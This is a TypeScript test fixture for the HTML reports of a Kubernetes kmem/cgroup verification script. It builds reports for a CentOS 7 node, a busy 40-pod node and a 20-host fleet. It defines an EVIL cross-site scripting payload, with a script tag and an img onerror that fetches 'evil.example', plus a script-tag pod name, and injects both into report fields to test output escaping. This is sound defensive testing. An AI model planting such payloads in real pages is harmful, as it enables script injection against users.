/**
 * Reports for the HTML tests: real script reports of fixture nodes (the CentOS 7 one, a busy node of
 * 40 pods, a fleet of 20 hosts over every fix state), and a hostile copy of one.
 */
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { fleetReport } from "../../../src/verify/fleet.js";
import { applyApiNames, type ApiPod } from "../../../src/verify/kube-names.js";
import type { HostOutcome, NodeReport } from "../../../src/verify/report.js";
import { fakeGoBinary } from "./binaries.js";
import { procTree, v1cg } from "./memcg.js";
import { el7Messages } from "./oom-logs.js";
import { runJson } from "./run-script.js";
import * as S from "./scenarios.js";
import { countDirs, layTree, type Tree } from "./tree.js";

export const EVIL = `<script>alert(1)</script><img src=x onerror="fetch('http://evil.example/')">'\``;

/** A real report of the script on the CentOS 7 fixture with its EL7 kernel log (3 OOM kills, 1 kmem-caused). */
export function el7Report(dir: string): { report: NodeReport; args: string[] } {
  const f = S.centos7Cgroupfs(join(dir, "node"));
  const log = join(dir, "messages");
  writeFileSync(log, el7Messages());
  const args = [...f.args, "--kernel-log", log];
  return { report: runJson(args).report, args };
}

export function outcome(report: NodeReport, host = "node-1"): HostOutcome {
  return { host, result: report.result, exit_code: report.exit_code, error: null, seconds: 1, report };
}

/** The same report with hostile text from the node everywhere a string comes from it. */
export function hostile(r: NodeReport): NodeReport {
  const h = structuredClone(r) as NodeReport & { fix_state?: unknown };
  h.node.hostname = EVIL;
  h.checks[0]!.seen = EVIL;
  h.checks[0]!.remedy = EVIL;
  h.cgroups[0]!.path = EVIL;
  h.cgroups[0]!.pod_name = EVIL;
  h.cgroups[0]!.pod_namespace = EVIL;
  h.oom_kills[0]!.pod_name = EVIL;
  h.oom_kills[0]!.process.name = EVIL;
  h.fix_state = "install";
  h.next_step = EVIL;
  return h;
}

const MiB = S.MiB;
const GiB = S.GiB;
const limited = (t: Tree, limit: number): Tree => ({ ...t, "memory.limit_in_bytes": `${limit}\n` });
const hex = (n: number, width: number) => n.toString(16).padStart(width, "0");

/** A pod in the busy node: its memory, its limit (none: unlimited) and what the kubelet armed. */
interface BusyPod {
  qos: "guaranteed" | "burstable" | "besteffort";
  rss: number;
  cache: number;
  kmem: number;
  limit: number | null;
}

/**
 * The pods of the busy node: the seed case first (a 6 GiB burstable pod, 3.2 GiB of it kmem), then
 * kmem from a few GiB down to 4 KiB, limited and unlimited, over the three QoS classes.
 */
function busyPods(pods: number): BusyPod[] {
  const kmems = [
    1.4 * GiB,
    700 * MiB,
    260 * MiB,
    96 * MiB,
    40 * MiB,
    12 * MiB,
    3 * MiB,
    640 * 1024,
    64 * 1024,
    4096,
  ];
  const out: BusyPod[] = [
    { qos: "burstable", rss: 1.5 * GiB, cache: GiB, kmem: 3_400_000_000, limit: 6 * GiB },
  ];
  for (let p = 1; p < pods; p++) {
    const qos = p % 4 === 0 ? "guaranteed" : p % 4 === 3 ? "besteffort" : "burstable";
    const kmem = Math.round(
      qos === "besteffort" ? (p === 3 ? 1.1 * GiB : 4096) : kmems[(p * 7) % kmems.length]!,
    );
    const rss = [60, 120, 250, 480, 900][p % 5]! * MiB;
    const cache = [8, 30, 90, 200][p % 4]! * MiB;
    const need = rss + cache + kmem;
    const limit =
      qos === "besteffort"
        ? null
        : ([512 * MiB, GiB, 2 * GiB, 4 * GiB].find((l) => l > need * 1.1) ?? 6 * GiB);
    out.push({ qos, rss, cache, kmem, limit });
  }
  return out;
}

const uidOf = (p: number) => `${hex(p, 8)}-5eed-4b0b-8c0c-${hex(p * 2654435761, 12).slice(-12)}`;
const ctrOf = (p: number, c: number) => `${hex(p, 4)}${hex(c, 2)}${"c0de".repeat(14)}${hex(p + c, 2)}`;
/** The pod the busy node names with markup (a hostile name the API server would hand over as it is). */
export const SCRIPT_POD = `<script>alert("pod")</script>`;

/**
 * A 3.10 node with `pods` pods (an app container and the sandbox each) whose kubelet arms kmem, read
 * by the script with the EL7 kernel log (its kills are from a plain file: not authenticated), pods and
 * containers then named the way --kubeconfig names them (one name is markup).
 */
export function busyNode(dir: string, pods = 40): NodeReport {
  const spec = busyPods(pods);
  const qos: Record<string, Tree> = { burstable: {}, besteffort: {} };
  const top: Tree = {};
  spec.forEach((s, p) => {
    const on = s.kmem > 0 ? "active" : "inactive";
    const pause = v1cg({ rss: 40 * 1024, kmem: s.kmem > 0 ? 4096 : 0, slab: on });
    let app = v1cg({ rss: s.rss, cache: s.cache, kmem: Math.max(0, s.kmem - 4096), slab: on });
    let pod = v1cg(
      { rss: s.rss + 40 * 1024, cache: s.cache, kmem: s.kmem, slab: on },
      { [ctrOf(p, 1)]: app, [ctrOf(p, 2)]: pause },
    );
    if (s.limit !== null) {
      app = limited(app, s.limit);
      pod = limited({ ...pod, [ctrOf(p, 1)]: app }, s.limit);
    }
    (s.qos === "guaranteed" ? top : qos[s.qos]!)[`pod${uidOf(p)}`] = pod;
  });
  const cgDir = join(dir, "cg");
  const procDir = join(dir, "proc");
  const cg = v1cg(
    {},
    {
      kubepods: v1cg(
        { slab: "active" },
        {
          ...top,
          burstable: v1cg({ slab: "active" }, qos.burstable),
          besteffort: v1cg({ slab: "active" }, qos.besteffort),
        },
      ),
    },
  );
  layTree(cgDir, cg);
  layTree(
    procDir,
    procTree({
      layout: "v1",
      kernel: S.RHEL7["7.6"],
      numCgroups: countDirs(cg) + 12,
      hostname: "el7-worker-07",
    }),
  );
  const kubelet = join(dir, "kubelet");
  writeFileSync(kubelet, fakeGoBinary({ kmem: true }), { mode: 0o755 });
  const log = join(dir, "messages");
  writeFileSync(log, el7Messages());
  const report = runJson([
    "--proc-root",
    procDir,
    "--cgroup-root",
    cgDir,
    "--kubelet",
    kubelet,
    "--kernel-log",
    log,
  ]).report;
  const names = [
    "web",
    "cart",
    "checkout",
    "search",
    "payments",
    "ledger",
    "images",
    "mailer",
    "kafka",
    "redis",
  ];
  const api = new Map<string, ApiPod>(
    spec.map((_, p) => [
      uidOf(p),
      {
        namespace: ["shop", "data", "infra"][p % 3]!,
        name: p === 6 ? SCRIPT_POD : `${names[p % names.length]}-${Math.floor(p / names.length)}`,
        containers: new Map([
          [ctrOf(p, 1), "app"],
          [ctrOf(p, 2), "POD"],
        ]),
      },
    ]),
  );
  const fleet = fleetReport([outcome(report, "el7-worker-07")]);
  applyApiNames(fleet, api);
  return fleet.hosts[0]!.report!;
}

/** One host of the fleet fixture: how its node is laid out, or why it could not be checked. */
interface FleetNode {
  lay?: (dir: string) => S.Laid;
  kernelLog?: boolean;
  error?: string;
}

const R = S.RHEL7;
const GB = 1_000_000_000;
const install =
  (kmem: number, kernel: string = R["7.6"]) =>
  (d: string) =>
    S.el7Node(d, {
      kernel,
      driver: "cgroupfs",
      parents: true,
      pod: true,
      container: true,
      kmem,
      kubelet: "kmem",
    });
/** Twenty hosts over every fix state, two unreachable, in an order that is not the page's. */
export const FLEET: FleetNode[] = [
  { lay: (d) => S.el7Node(d, { kernel: R["7.3"], driver: "cgroupfs", kubelet: "nokmem" }) },
  { lay: install(3.4 * GB), kernelLog: true },
  { lay: (d) => S.el7Node(d, { kernel: R["7.9"], driver: "systemd", parents: true, kubelet: "nokmem" }) },
  { error: "ssh: connect to host worker-04 port 22: Connection refused" },
  { lay: install(4096, R["7.9"]) },
  {
    lay: (d) =>
      S.el7Node(d, {
        kernel: R["7.6"],
        driver: "cgroupfs",
        parents: true,
        pod: true,
        kubelet: "nokmem",
        running: "deleted",
      }),
  },
  { lay: (d) => S.el7Node(d, { kernel: R["7.8"], driver: "systemd", kubelet: "nokmem", running: "none" }) },
  { lay: (d) => S.hybridKernelCharges(d, true) },
  { lay: install(900 * MiB) },
  {
    lay: (d) =>
      S.el7Node(d, { kernel: R["7.6"], driver: "cgroupfs", container: true, kmem: 8192, kubelet: "nokmem" }),
  },
  {
    lay: (d) =>
      S.el7Node(d, { kernel: R["7.3"], driver: "cgroupfs", pod: true, kmem: 4096, kubelet: "nokmem" }),
  },
  { lay: (d) => S.noKubepods(d) },
  { lay: (d) => S.el7Node(d, { kernel: R["7.3"], driver: "cgroupfs", kubelet: "nokmem" }) },
  { lay: install(1.5 * GB), kernelLog: true },
  {
    lay: (d) =>
      S.el7Node(d, {
        kernel: R["7.9"],
        driver: "systemd",
        parents: true,
        kubelet: "nokmem",
        running: "other",
      }),
  },
  { error: "ssh failed: timed out after 60 s" },
  { lay: (d) => S.el7Node(d, { kernel: R["7.9"], driver: "cgroupfs", param: true, kubelet: "kmem" }) },
  { lay: install(64 * MiB) },
  { lay: (d) => S.el7Node(d, { kernel: R["7.9"], driver: "systemd", kubelet: "nokmem" }) },
  {
    lay: (d) =>
      S.el7Node(d, { kernel: R["7.9"], driver: "systemd", parents: true, kubelet: "nokmem", kmem: 0 }),
  },
];

/** The fleet fixture's outcomes, in input order: the script's real report of each node (host worker-NN). */
export function fleetOutcomes(dir: string): HostOutcome[] {
  return FLEET.map((n, i) => {
    const host = `worker-${String(i + 1).padStart(2, "0")}`;
    if (n.error) return { host, result: "UNKNOWN", exit_code: 2, error: n.error, seconds: 60, report: null };
    const l = n.lay!(join(dir, host));
    writeFileSync(join(l.proc, "sys/kernel/hostname"), `${host}.prod.example\n`);
    const args = [...l.args];
    if (n.kernelLog) {
      writeFileSync(join(l.dir, "messages"), el7Messages());
      args.push("--kernel-log", join(l.dir, "messages"));
    }
    return outcome(runJson(args).report, host);
  });
}
